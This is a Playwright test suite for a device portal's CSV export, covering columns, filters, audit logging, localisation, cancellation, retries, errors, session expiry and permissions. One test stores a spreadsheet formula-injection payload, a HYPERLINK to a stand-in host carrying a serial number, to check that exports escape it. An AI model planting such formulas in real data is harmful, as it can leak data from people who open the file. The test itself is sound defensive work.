import { activity } from '@keyward/contract/activity';
import { auth } from '@keyward/contract/auth';
import { devices } from '@keyward/contract/devices';
import { durations } from '@keyward/contract/limits';
import type { Locator, Page, Route } from '@playwright/test';
import { expectAccessible } from './axe.ts';
import { callsOf } from './calls.ts';
import { cellsOf, download, fileOf } from './csv.ts';
import {
  chooseView,
  expectEachRow,
  expectTotal,
  row,
  rows,
  searchFor,
  totalRows,
  watching,
  withoutLive,
} from './list.ts';
import { expect, freshState, nightly, test } from './people.ts';
import { newDevice } from './things.ts';

const cancel = (page: Page): Locator => page.getByRole('button', { name: 'Cancel', exact: true });
const done = 'Check your download history or file system for the CSV.';
const alert = (page: Page, text: string) => page.getByText(text, { exact: true });

/** The headers of data columns, without the checkbox and the menu columns. */
const headers = async (page: Page) =>
  (await page.getByRole('columnheader').allInnerTexts()).filter((text) => !['', 'Actions', '操作'].includes(text));
const firstRow = async (page: Page) => {
  const [box, ...texts] = await rows(page).first().getByRole('cell').allInnerTexts();
  return box ? [box, ...texts] : texts;
};

/** Routes the page requests of a download through `handle`; the list's own requests pass. */
const onPages = (page: Page, handle: (route: Route) => Promise<void>) =>
  page.route(/\/api\/v1\/(devices|events)\?.*results_per_page=5000/, handle);

test('holds the view’s columns and rows in order, with the names on screen', async ({ page }) => {
  await page.clock.install();
  await page.goto('/devices');
  await totalRows(page);
  await chooseView(page, 'OKMs');
  // only the demo's own devices: other tests add some concurrently
  await searchFor(page, 'key cabinet');
  await expectEachRow(page, /key cabinet/i);
  const total = await totalRows(page);
  const { name, text } = await fileOf(page);
  await expect(alert(page, done)).toBeVisible();
  expect(name).toMatch(/^devices-OKMs-\d{4}-\d\d-\d\d\.csv$/);
  const [header, ...lines] = cellsOf(text);
  expect(header).toEqual(await headers(page));
  expect(lines).toHaveLength(total);
  const shown = await firstRow(page);
  expect(lines[0]?.slice(0, 4)).toEqual(shown.slice(0, 4));
  const reported = lines.map((line) => line.at(-1) ?? '');
  for (const time of reported.filter((one) => one)) expect(time).toMatch(/^\d\d\/\d\d\/\d{4} \d\d:\d\d:\d\d$/);
  expect(reported.some((one) => one)).toBe(true);
  // the message closes by itself
  await page.clock.runFor(durations.alertMs);
  await expect(alert(page, done)).toHaveCount(0);
});

test('follows search and filters, and records one event', nightly, async ({ page, api }) => {
  const call = await api('admin');
  const device = await newDevice(call);
  await page.goto('/devices');
  await searchFor(page, device.serial_number);
  await expect(rows(page)).toHaveCount(1);
  const { text } = await fileOf(page);
  expect(
    cellsOf(text)
      .slice(1)
      .map((line) => line.slice(0, 2)),
  ).toEqual([[device.name, device.serial_number]]);
  const { data } = await call(activity.list, { query: { event: 'EXPORT_CSV', results_per_page: '200' } });
  const mine = data.filter(({ description }) =>
    description.changes.some(({ attribute, newValue }) => attribute === 'search' && newValue === device.serial_number),
  );
  expect(mine).toHaveLength(1);
  expect(mine[0]?.description.agentName).toBe('Alex Morgan');
});

test('escapes formulas', nightly, async ({ page, api }) => {
  const call = await api('admin');
  const device = await newDevice(call);
  const name = `=HYPERLINK("http://x.example/?${device.serial_number}", "win")`;
  await call(devices.update, { params: { id: device.id }, ifMatch: device.version, body: { name } });
  await page.goto(`/devices?search=${device.serial_number}`);
  await expect(rows(page)).toHaveCount(1);
  expect(cellsOf((await fileOf(page)).text)[1]?.[0]).toBe(`''${name}`);
});

test.describe('in Japan', () => {
  test.use({ locale: 'ja-JP', tenant: 'harbor' });

  test('uses the language on screen and the profile’s zone', nightly, async ({ page }) => {
    await page.goto('/activity?custom_view=Unauthorized%20Attempts');
    await expect(rows(page).first()).toBeVisible();
    const { name, text } = await fileOf(page, 'CSV をダウンロード');
    expect(name).toMatch(/^activity-.+-\d{4}-\d\d-\d\d\.csv$/);
    const [header, ...lines] = cellsOf(text);
    expect(header).toEqual(await headers(page));
    // the list shows the seconds as well
    const [shown = '', ...cells] = await firstRow(page);
    expect(lines.map(([time = '', ...rest]) => [time.slice(0, 16), ...rest.slice(0, 2)])).toContainEqual([
      shown.slice(0, 16),
      ...cells.slice(0, 2),
    ]);
    // the recorded event as well
    await page.goto('/activity?filter.event=EXPORT_CSV');
    await expect(row(page, 'アクティビティ：権限のない操作').first()).toBeVisible();
    const records = cellsOf((await fileOf(page, 'CSV をダウンロード')).text);
    expect(records.flat()).toContain('アクティビティ：権限のない操作');
  });
});

test('shows its progress and can be cancelled', nightly, async ({ page }) => {
  await page.goto('/devices');
  const total = await totalRows(page);
  await onPages(page, () => new Promise(() => {}));
  await download(page).press('Enter');
  await expect(page.getByRole('status').filter({ hasText: 'Preparing Devices CSV...' })).toBeVisible();
  await expect(download(page)).toHaveAttribute('aria-disabled', 'true');
  await expect(page.getByText(`0 of ${total.toLocaleString('en')} rows · 0%`)).toBeVisible();
  await expectAccessible(page);
  // the download continues on other pages
  await page.getByRole('link', { name: 'Activity' }).click();
  await expect(page).toHaveURL(/\/activity/);
  await expect(download(page)).not.toHaveAttribute('aria-disabled', 'true');
  await page.getByRole('link', { name: 'Devices' }).click();
  await cancel(page).press('Enter');
  await expect(page.getByRole('alert').filter({ hasText: 'Download has been cancelled.' })).toContainText('Failure');
  await expect(cancel(page)).toHaveCount(0);
  await expect(download(page)).toBeFocused();
  await expect(download(page)).not.toHaveAttribute('aria-disabled', 'true');
});

test('waits for the number of rows, which decides how the file is written', nightly, async ({ page }) => {
  const arrived = Promise.withResolvers<void>();
  await page.route('**/api/v1/devices?**', async (route) => {
    await arrived.promise;
    await route.continue();
  });
  await page.goto('/devices');
  await expect(download(page)).toHaveAttribute('aria-disabled', 'true');
  await download(page).dispatchEvent('click');
  arrived.resolve();
  await expect(download(page)).not.toHaveAttribute('aria-disabled', 'true');
  await expect(cancel(page)).toHaveCount(0);
  expect(cellsOf((await fileOf(page)).text).length).toBeGreaterThan(100);
});

test('retries a page before it fails', nightly, async ({ page, problems }) => {
  // the error of a worker's request is lost when the worker ends before the browser reports it
  problems.allow(/503.*results_per_page=5000/);
  await page.goto('/devices');
  await totalRows(page);
  let requests = 0;
  await onPages(page, async (route) => {
    requests++;
    if (requests === 1) await route.fulfill({ status: 503, json: { errors: [{ code: 'unavailable', detail: 'x' }] } });
    else await route.continue();
  });
  expect(cellsOf((await fileOf(page)).text).length).toBeGreaterThan(100);
  await expect(alert(page, done)).toBeVisible();
});

test('explains a failure and leaves no file', nightly, async ({ page, problems }) => {
  problems.allow(/500.*results_per_page=5000/, /400.*results_per_page=5000/);
  await page.goto('/devices');
  await totalRows(page);
  const files: string[] = [];
  page.on('download', (file) => files.push(file.suggestedFilename()));
  await onPages(page, (route) =>
    route.fulfill({ status: 500, json: { errors: [{ code: 'internal', detail: 'Internal Server Error' }] } }),
  );
  await download(page).click();
  const failed = page.getByRole('alert').filter({ hasText: /Failed to download devices-Overview-[\d-]+ CSV\./ });
  await expect(failed).toContainText('Failure');
  await failed.getByRole('button', { name: 'Close' }).click();
  await page.unrouteAll();
  // more records than the tenant's limit: first by the limit that the portal knows, then by the server's refusal
  const tooMany = alert(
    page,
    'There are too many records to download. Adjust the date range or filters and try again.',
  );
  await page.route('**/tenants/config/csvDownloadRecordsLimit', (route) => route.fulfill({ json: { data: 1 } }));
  await download(page).click();
  await expect(tooMany).toBeVisible();
  await page.unrouteAll();
  await page.getByRole('button', { name: 'Close' }).click();
  await expect(tooMany).toBeHidden();
  await onPages(page, (route) =>
    route.fulfill({ status: 400, json: { errors: [{ code: 'csvDownloadRecordsLimitExceeded', detail: 'x' }] } }),
  );
  await download(page).click();
  await expect(tooMany).toBeVisible();
  await page.unrouteAll();
  // a view without columns has nothing to export
  await page.route('**/api/v1/custom-views?**', async (route) => {
    const response = await route.fetch();
    const { data, ...rest } = await response.json();
    const bare = data.map((view: object) => ({ ...view, columns: [] }));
    await route.fulfill({ response, json: { ...rest, data: bare } });
  });
  await page.reload();
  await totalRows(page);
  await download(page).click();
  await expect(failed).toBeVisible();
  expect(files).toEqual([]);
});

test('says that the session has ended', nightly, async ({ open, problems }) => {
  problems.allow(/401.*results_per_page=5000/);
  const storageState = await freshState('demo', 'admin');
  const page = await open(null, { storageState });
  await withoutLive(page);
  await page.goto('/devices');
  await totalRows(page);
  await watching(page);
  await onPages(page, async (route) => {
    const [cookie] = storageState.cookies;
    await callsOf('demo', `${cookie?.name}=${cookie?.value}`)(auth.logout);
    await route.continue();
  });
  await download(page).click();
  await expect(page).toHaveURL(/\/username/);
  await expect(page.getByText('Your session has ended. Please sign in again.')).toBeVisible();
});

test('writes a long list to the chosen file', nightly, async ({ page, api }) => {
  // the test cannot answer the browser's own dialog: the file is in the origin's private file system
  await page.addInitScript(() => {
    Object.assign(window, {
      asked: 0,
      showSaveFilePicker: async ({ suggestedName }: { suggestedName: string }) => {
        const times = Number(Reflect.get(window, 'asked'));
        Reflect.set(window, 'asked', times + 1);
        if (times === 0) throw new DOMException('The user aborted a request.', 'AbortError');
        const folder = await navigator.storage.getDirectory();
        return folder.getFileHandle(suggestedName, { create: true });
      },
    });
  });
  // a download of two pages that the list reports as long: it proves as much as one of eight, and is faster
  const since = `gte:${new Date(Date.now() - 5 * 86_400_000).toISOString()}`;
  const { total_results: total } = await (await api('admin'))(activity.list, { query: { event_time: since } });
  expect(total).toBeGreaterThan(5000);
  await page.route(/\/api\/v1\/events\?(?!.*results_per_page)/, async (route) => {
    const response = await route.fetch();
    await route.fulfill({ response, json: { ...(await response.json()), total_results: 25_000 } });
  });
  await page.goto(`/activity?filter.event_time=${since}`);
  await expectTotal(page, 25_000);
  // nothing happens without a chosen file
  await download(page).click();
  await expect.poll(() => page.evaluate(() => Reflect.get(window, 'asked'))).toBe(1);
  await expect(download(page)).not.toHaveAttribute('aria-disabled', 'true');
  await expect(page.getByRole('alert')).toHaveText(['']);
  await download(page).click();
  await expect(alert(page, done)).toBeVisible();
  const text = await page.evaluate(async () => {
    const folder = await navigator.storage.getDirectory();
    for await (const handle of folder.values()) {
      if (!(handle instanceof FileSystemFileHandle)) continue;
      const file = await handle.getFile();
      return new TextDecoder('utf-8', { ignoreBOM: true }).decode(await file.arrayBuffer());
    }
    return '';
  });
  const lines = cellsOf(text).slice(1);
  // other tests record events concurrently
  expect(lines.length).toBeGreaterThanOrEqual(total);
  expect(lines.length).toBeLessThan(total + 500);
  expect(new Set(lines.map((line) => line.length))).toEqual(new Set([7]));
});

test.describe('a profile without the export permission', () => {
  test.use({ person: 'clerk' });

  test('sees the button disabled, with the reason', nightly, async ({ page }) => {
    await page.goto('/devices');
    await totalRows(page);
    await expect(download(page)).toHaveAttribute('aria-disabled', 'true');
    await download(page).hover();
    await expect(page.getByRole('tooltip')).toHaveText(/Export devices permission required\./);
    await download(page).press('Enter');
    await expect(page.getByText('Preparing Devices CSV...')).toHaveCount(0);
  });
});
